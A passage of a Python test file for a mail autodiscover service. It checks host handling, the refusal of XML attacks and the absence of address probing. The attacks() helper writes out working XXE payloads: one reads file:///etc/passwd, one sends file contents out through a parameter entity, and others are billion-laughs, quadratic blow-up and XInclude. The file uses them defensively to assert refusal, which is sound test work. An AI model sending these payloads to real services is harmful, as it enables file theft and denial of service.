@example(host="exa mple.com", path=V1_QUERY)
@example(host="", path=V1_PATH)
@example(host="autoconfig.müller.example", path=V1_QUERY)  # raw UTF-8, as Latin-1
@example(host="example.com:99999", path=V1_QUERY)
@example(host="XN--", path=V1_QUERY)  # Werkzeug's own test client cannot even ask this
def test_the_v1_url_names_a_host(clients: dict[bool, Client], host: str, path: str) -> None:
    """The AutodiscoverV1 answer points at this service: a URL with a host in it, or a 4xx."""
    response = direct_get(clients[False], path, host)
    event(f"{response.status_code} {outcome(response)}")
    if response.status_code != 200:  # refusing the request is fine (the main property checks how)
        assert 400 <= response.status_code < 500
        return
    assert response.content_type == JSON
    url = urlsplit(json.loads(response.data)["Url"])
    assert url.scheme == "https" and url.hostname, url
    assert url.port is None or 0 < url.port < 65536
    assert url.path == "/Autodiscover/Autodiscover.xml"


# ---------------------------------------------------------------------------
# XML attacks on the POX endpoint: fixed examples


PASSWD = Path("/etc/passwd")
XINCLUDE = "http://www.w3.org/2001/XInclude"


def closed_port() -> int:
    """A port on 127.0.0.1 that nothing listens on (just released by the kernel)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


def billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE Autodiscover [{''.join(entities)}]>\n" + pox("&lol9;@example.com")


def quadratic_blowup() -> str:
    entity = "a" * 50_000
    return f'<!DOCTYPE Autodiscover [<!ENTITY a "{entity}">]>\n' + pox("&a;" * 1000)


def attacks(port: int) -> dict[str, bytes]:
    """Each a complete POX request but for its attack; answered 600, never otherwise."""
    doctype = "<!DOCTYPE Autodiscover>\n"
    xxe_file = '<!DOCTYPE Autodiscover [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    found = {
        "external entity (file)": DECL + xxe_file + pox("&xxe;"),
        "external entity (http, closed port)": DECL
        + f'<!DOCTYPE Autodiscover [<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/x">]>\n'
        + pox("&xxe;@example.com"),
        "external DTD": DECL
        + f'<!DOCTYPE Autodiscover SYSTEM "http://127.0.0.1:{port}/x.dtd">\n'
        + pox("alice@example.com"),
        "parameter entity": DECL
        + "<!DOCTYPE Autodiscover [\n"
        + '<!ENTITY % file SYSTEM "file:///etc/passwd">\n'
        + f"<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:{port}/?%file;'>\">\n"
        + "%eval; %leak;]>\n"
        + pox("alice@example.com"),
        "billion laughs": DECL + billion_laughs(),
        "quadratic blow-up": DECL + quadratic_blowup(),
        "XInclude": DECL
        + pox(f'<xi:include xmlns:xi="{XINCLUDE}" href="file:///etc/passwd" parse="text"/>'),
        "DOCTYPE alone": DECL + doctype + pox("alice@example.com"),
        "DOCTYPE after a comment": "<!-- Outlook -->\n" + doctype + pox("alice@example.com"),
        "doctype in lower case": "<!doctype Autodiscover>\n" + pox("alice@example.com"),
    }
    bodies = {name: text.encode("utf-8") for name, text in found.items()}
    utf16 = '<?xml version="1.0" encoding="UTF-16"?>\n'
    bodies["DOCTYPE in UTF-16"] = (utf16 + doctype + pox("alice@example.com")).encode("utf-16")
    bodies["external entity in UTF-16"] = (utf16 + xxe_file + pox("&xxe;")).encode("utf-16")
    bodies["DOCTYPE in UTF-16-BE, no BOM"] = (utf16 + doctype + pox("alice@example.com")).encode(
        "utf-16-be"
    )
    return bodies


def test_attacks_fit_under_the_limit() -> None:
    """The quadratic blow-up (50,000 characters used 1,000 times) fits in 64 KiB."""
    sizes = {name: len(body) for name, body in attacks(1).items()}
    assert max(sizes.values()) <= LIMIT, sizes
    assert sizes["quadratic blow-up"] > 50_000


def passwd_lines() -> list[bytes]:
    if not PASSWD.is_file():
        return []
    return [line for line in PASSWD.read_bytes().splitlines() if line.count(b":") >= 6]


def assert_refused(response: TestResponse, status: int = 200) -> None:
    assert response.status_code == status
    assert response.content_type == XML
    root = etree.fromstring(response.get_data(), SAFE_PARSER)
    assert pox_code(root) == "600"
    body = response.get_data()
    assert b"root:" not in body
    for line in passwd_lines():
        assert line not in body


@pytest.fixture(scope="module")
def client() -> Client:
    return create_app(Settings(domains=EXAMPLES)).test_client()


@pytest.mark.parametrize("name", sorted(attacks(1)))
def test_xml_attack_is_refused_quickly(client: Client, name: str) -> None:
    body = attacks(closed_port())[name]
    for path in (POX_PATH, "/Autodiscover/Autodiscover.xml"):
        started = time.perf_counter()
        response = client.post(path, data=body, content_type="text/xml")
        elapsed = time.perf_counter() - started
        assert_refused(response)
        assert elapsed < 0.5, f"{name}: {elapsed:.3f} s"


def test_xinclude_beside_a_good_address_is_refused(client: Client) -> None:
    """The issue: XInclude is refused with ErrorCode 600, not only where it empties the address.

    (Not a leak: the element is never processed. But it is answered as a good request.)
    """
    include = f'<xi:include xmlns:xi="{XINCLUDE}" href="file:///etc/passwd" parse="text"/>'
    body = (DECL + pox("alice@example.com" + include)).encode()
    assert_refused(client.post(POX_PATH, data=body, content_type="text/xml"))


def test_the_passwd_check_would_see_a_leak() -> None:
    """The leak check is not vacuous: /etc/passwd has lines it would look for."""
    if not PASSWD.is_file():
        pytest.skip("no /etc/passwd here")
    assert passwd_lines()


def test_a_larger_blowup_is_refused_as_too_large(client: Client) -> None:
    """The same attack grown past 64 KiB is refused before parsing: 413, ErrorCode 600."""
    body = (
        DECL + f'<!DOCTYPE Autodiscover [<!ENTITY a "{"a" * 100_000}">]>\n' + pox("&a;" * 1000)
    ).encode()
    started = time.perf_counter()
    response = client.post(POX_PATH, data=body, content_type="text/xml")
    assert time.perf_counter() - started < 0.5
    assert_refused(response, status=413)


def test_no_attack_reaches_the_network(client: Client) -> None:
    """A listener that never accepts: a fetch of an entity or DTD would queue a connection."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        for name, body in attacks(listener.getsockname()[1]).items():
            assert_refused(client.post(POX_PATH, data=body, content_type="text/xml"))
            pending, _, _ = select.select([listener], [], [], 0.05)
            assert not pending, f"{name}: the service connected to 127.0.0.1"


def vm_kib(name: str) -> int:
    """A VmRSS / VmHWM line of /proc/self/status, in KiB."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(name + ":"):
            return int(line.split()[1])
    raise LookupError(name)


def reset_peak() -> bool:
    """Set VmHWM back to the current RSS (Linux 4.0+); False where that is not possible."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return False
    return True


# One billion laughs expanded is 3 GB, one quadratic blow-up 50 MB: either, even once,
# goes far past this bound, while allocator noise over 650 small requests stays under it.
MEMORY_BOUND_KIB = 20 * 1024


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux /proc")
def test_attacks_do_not_grow_memory(client: Client) -> None:
    bodies = list(attacks(closed_port()).values())
    for body in bodies:  # warm up: caches, lazily built parsers, the first error documents
        assert_refused(client.post(POX_PATH, data=body, content_type="text/xml"))
    gc.collect()
    before = vm_kib("VmRSS")
    peak_before = before if reset_peak() else vm_kib("VmHWM")
    started = time.perf_counter()
    for _ in range(50):
        for body in bodies:
            response = client.post(POX_PATH, data=body, content_type="text/xml")
            assert response.status_code == 200 and b"<ErrorCode>600</ErrorCode>" in response.data
    elapsed = time.perf_counter() - started
    gc.collect()
    after, peak = vm_kib("VmRSS"), vm_kib("VmHWM")
    assert after - before < MEMORY_BOUND_KIB, f"RSS grew {after - before} KiB"
    assert peak - peak_before < MEMORY_BOUND_KIB, f"peak RSS grew {peak - peak_before} KiB"
    assert elapsed < 10, f"{50 * len(bodies)} attacks took {elapsed:.1f} s"


# ---------------------------------------------------------------------------
# No probing of addresses (draft-ietf-mailmaint-autoconfig-06; docs/security.md)

_UUID = re.compile(r"[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}")


def _blank(text: str, address: str, local: str) -> str:
    """A text with the address, then its local part, put back as the placeholders."""
    text = text.replace(address, "%EMAILADDRESS%").replace(local, "%EMAILLOCALPART%")
    return _UUID.sub("UUID", text)  # a profile's identifiers are made from the address


def _blanked(value: Any, address: str, local: str) -> Any:
    if isinstance(value, str):
        return _blank(value, address, local)
    if isinstance(value, dict):
        return {k: _blanked(v, address, local) for k, v in value.items()}
    if isinstance(value, list):
        return [_blanked(v, address, local) for v in value]
    return value


def _document(kind: str, data: bytes, address: str, local: str) -> Any:
    """The parsed answer with every place the address is filled in blanked."""
    if kind == "mobileconfig":
        return _blanked(plistlib.loads(data), address, local)
    if kind == "json":
        return _blanked(json.loads(data), address, local)
    root = etree.fromstring(data, SAFE_PARSER)
    # An Exchange error document's Time and Id are the moment's and random, as
    # Exchange writes them: the same for any address, never the same twice.
    random = ("Time", "Id") if b"<ErrorCode>" in data else ()
    return [
        (
            root.getroottree().getpath(e),
            sorted((k, _blank(v, address, local)) for k, v in e.attrib.items() if k not in random),
            _blank(e.text or "", address, local),
        )
        for e in root.iter()
    ]


@HYPOTHESIS
@given(
    locals_=st.lists(st.sampled_from(GOOD_LOCAL_PARTS), min_size=2, max_size=2, unique=True),
    domain=st.sampled_from(KNOWN_DOMAINS),
    form=st.sampled_from(ADDRESS_FORMS),
)
def test_no_answer_tells_one_address_from_another(
    clients: dict[bool, Client], locals_: list[str], domain: str, form: str
) -> None:
    """The rule: for every provider without a per-user lookup (every provider today;
    issue 19's lookups are the one, documented, exception), two addresses of one
    domain get answers that differ only where the address itself is filled in, so
    no answer tells whether an address exists (draft-ietf-mailmaint-autoconfig-06)."""
    answers = []
    for local in locals_:
        case = address_case(f"{local}@{domain}", form)
        response = send(clients, case)
        answers.append((case.kind, local, response))
    statuses = {response.status_code for _, _, response in answers}
    assert len(statuses) == 1, statuses
    if statuses != {200}:
        return
    documents = []
    for kind, local, response in answers:
        address = f"{local}@{normalize_domain(domain)}"  # as the service fills it in
        documents.append(_document(kind, response.get_data(), address, local))
    assert documents[0] == documents[1]
    event(form)
